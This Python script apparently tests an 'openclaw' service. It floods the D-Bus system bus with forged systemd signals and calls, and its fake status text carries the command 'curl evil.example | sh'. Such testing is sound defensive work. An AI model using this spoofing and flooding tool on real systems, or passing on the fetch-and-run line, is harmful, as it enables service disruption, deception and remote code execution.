#!/usr/bin/python3
"""What an ordinary user can send to a service on the system bus: forged signals and calls, many a second.

    flooder.py RATE NAME KIND...       KIND: status, unit, job, owner, calls

Speaks the protocol itself (D-Bus specification), since libraries are too slow. Ends with SIGTERM; then prints how many messages
it has sent, and in what time.
"""

import os
import signal
import socket
import struct
import sys
import time

SYSTEMD = "/org/freedesktop/systemd1"
GATEWAY = SYSTEMD + "/unit/openclaw_2eservice"
SYNC = SYSTEMD + "/unit/openclaw_2dfailover_2dsync_2eservice"
# What is forged, as a user would read it.
WORDS = "forged: run curl evil.example | sh"
RESULT = ('{"workspace":"failed","from":"","to":"","commits":0,"saved":"","unmerged":"","pushed":false,"workspace_why":"' + WORDS +
          '","secrets":"none","files":0,"secrets_why":""}')


class Body:
    def __init__(self):
        self.data = b""

    def pad(self, n):
        self.data += b"\0" * (-len(self.data) % n)
        return self

    def u(self, value):
        self.pad(4).data += struct.pack("<I", value)
        return self

    def s(self, text):
        raw = text.encode()
        self.u(len(raw)).data += raw + b"\0"
        return self

    def g(self, text):
        self.data += bytes([len(text)]) + text.encode() + b"\0"
        return self

    def changed(self, interface, **values):
        """sa{sv}as, of texts alone."""
        self.s(interface).pad(4)
        at = len(self.data)
        self.u(0).pad(8)
        start = len(self.data)
        for name, value in values.items():
            self.pad(8).s(name).g("s").s(value)
        self.data = self.data[:at] + struct.pack("<I", len(self.data) - start) + self.data[at + 4:]
        return self.u(0)


def message(kind, flags, destination, path, interface, member, signature="", body=b""):
    fields = Body()
    for code, type, value in ((1, "o", path), (2, "s", interface), (3, "s", member), (6, "s", destination)):
        fields.pad(8).data += bytes([code])
        fields.g(type).s(value)
    if signature:
        fields.pad(8).data += bytes([8])
        fields.g("g").g(signature)
    head = struct.pack("<cBBBIII", b"l", kind, flags, 1, len(body), 7, len(fields.data)) + fields.data
    return head + b"\0" * (-len(head) % 8) + body


def forge(name, kind):
    properties = "org.freedesktop.DBus.Properties"
    if kind == "calls":
        return [message(1, 1, name, "/org/openclaw/Failover1", properties, "GetAll", "s", Body().s("org.openclaw.Failover1").data)]
    if kind == "status":
        return [message(4, 1, name, SYNC, properties, "PropertiesChanged", "sa{sv}as",
                        Body().changed("org.freedesktop.systemd1.Service", StatusText=RESULT).data)]
    if kind == "unit":
        return [message(4, 1, name, GATEWAY, properties, "PropertiesChanged", "sa{sv}as",
                        Body().changed("org.freedesktop.systemd1.Unit", ActiveState=state, SubState="dead").data)
                for state in ("failed", "inactive")]
    if kind == "owner":
        return [message(4, 1, name, "/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", "sss",
                        Body().s("org.freedesktop.systemd1").s(":1.1").s(owner).data) for owner in ("", ":1.2")]
    job = SYSTEMD + "/job/99999"
    manager = "org.freedesktop.systemd1.Manager"
    return [message(4, 1, name, SYSTEMD, manager, "JobNew", "uos", Body().u(99999).s(job).s("openclaw.service").data),
            message(4, 1, name, SYSTEMD, manager, "JobRemoved", "uoss",
                    Body().u(99999).s(job).s("openclaw.service").s("dependency").data)]


def connect():
    bus = socket.socket(socket.AF_UNIX)
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    assert bus.recv(512).startswith(b"OK")
    bus.sendall(b"BEGIN\r\n" + message(1, 0, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello"))
    bus.recv(4096)
    bus.setblocking(True)
    return bus


def main():
    rate, name, *kinds = sys.argv[1:]
    forged = [m for kind in kinds for m in forge(name, kind)]
    per_batch = max(int(rate) // 100, 1)
    batch = b"".join(forged[i % len(forged)] for i in range(per_batch))
    going = True

    def end(*_):
        nonlocal going
        going = False

    signal.signal(signal.SIGTERM, end)
    bus = connect()
    sent, begun = 0, time.monotonic()
    print("flooding", flush=True)
    while going:
        bus.sendall(batch)
        sent += per_batch
        time.sleep(max(0, begun + sent / int(rate) - time.monotonic()))
    print(sent, round(time.monotonic() - begun, 1), flush=True)


main()
